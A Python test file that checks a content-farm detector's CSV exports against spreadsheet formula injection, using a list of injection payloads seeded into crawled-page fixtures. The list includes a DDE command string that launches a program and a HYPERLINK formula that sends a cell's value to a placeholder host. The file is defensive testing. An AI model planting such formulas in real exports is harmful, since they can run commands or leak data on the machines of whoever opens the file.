"""No cell of a CSV file we write is a formula, whatever a page, an archive or an index says."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from detector.batch.cells import harmless
from detector.cli import app

FORMULA = "=+-@\t\r\n＝＋－＠"
ATTACKS = [
    '=cmd|"/c calc"!A1',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "＝1＋1",
    '=HYPERLINK("http://a.example/?"&A1,"x")',
    "\0=1",
]
STORY = "昨天下午，我们在城里的图书馆里见到了三位老师，他们正在整理一批旧的地方报纸。" * 12


@settings(deadline=None)
@given(st.text())
def test_a_harmless_cell_begins_like_no_formula(text: str) -> None:
    cell = harmless(text)
    assert not cell or cell[0] not in FORMULA + "\0"
    assert cell.removeprefix("'") == text.replace("\0", "\ufffd") or cell == text


@pytest.fixture
def crawl(tmp_path: Path) -> Path:
    """Pages that say a formula wherever they can say anything."""
    rows = [
        {
            "id": f"{attack} {number}",
            "url": f"{attack}//h{number}.example/",
            "text": f"{attack}\n文 | {attack}\n来源：{attack}\n{attack}{STORY}{attack}",
            "title": attack,
            "byline": attack,
            "site": attack,
            "published": attack,
            "lang": attack,
        }
        for number, attack in enumerate(ATTACKS * 2)
    ]
    path = tmp_path / "=crawl.jsonl"
    broken = ['{"id": "=1", "text"', '{"id": "=1", "nothing": "=1"}']
    path.write_text("\n".join([*map(json.dumps, rows), *broken]), encoding="utf-8")
    return path


def cells(path: Path) -> list[tuple[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        header, *rows = csv.reader(file)
    assert rows
    return [(name, cell) for row in rows for name, cell in zip(header, row, strict=True)]


def check(path: Path) -> set[str]:
    """No formula in any cell; the columns in which one was made harmless."""
    found = cells(path)
    for name, cell in found:
        if cell[:1] and cell[0] in FORMULA:
            float(cell)  # a negative number is one: everything else raises
            assert name not in ("id", "title")
    return {name for name, cell in found if cell[:1] == "'" and cell[1:2] in tuple(FORMULA)}


def call(*arguments: object) -> None:
    result = CliRunner().invoke(app, [str(argument) for argument in arguments])
    assert result.exit_code in (0, 1), result.output


def test_every_command_that_writes_csv(crawl: Path, tmp_path: Path, tiny_model: Path) -> None:
    known, scored = tmp_path / "known", tmp_path / "scored.csv"
    call("score", crawl, "--out", scored, "--workers", 1, "--model", tiny_model)
    assert check(scored) >= {"id", "title"}
    call("bylines", crawl, "--out", tmp_path / "bylines.csv")
    assert check(tmp_path / "bylines.csv") >= {"id"}
    call("copies", crawl, "--out", tmp_path / "copies.csv")
    assert check(tmp_path / "copies.csv") >= {"id"}
    call("index", "build", known, crawl)
    call("index", "query", known, crawl, "--out", tmp_path / "matches.csv")
    assert check(tmp_path / "matches.csv") >= {"id", "known_id"}


def test_sites_and_their_reasons(tmp_path: Path) -> None:
    rows = [
        {
            "id": f"{attack}{page}", "url": attack, "host": attack, "status": "ok", "score": 0.99,
            "label": "farm", "cluster": attack,
            "reasons": [{"signal": attack, "value": 1, "weight": 2, "quotes": []}],
            "claims": [{"role": "author", "name": attack}],
        }
        for attack in ATTACKS for page in range(3)
    ]  # fmt: skip
    scored = tmp_path / "s.jsonl"
    scored.write_text("\n".join(map(json.dumps, rows)), encoding="utf-8")
    out = tmp_path / "hosts.csv"
    call("hosts", scored, "--format", "csv", "--out", out)
    assert check(out) >= {"host", "reasons"}
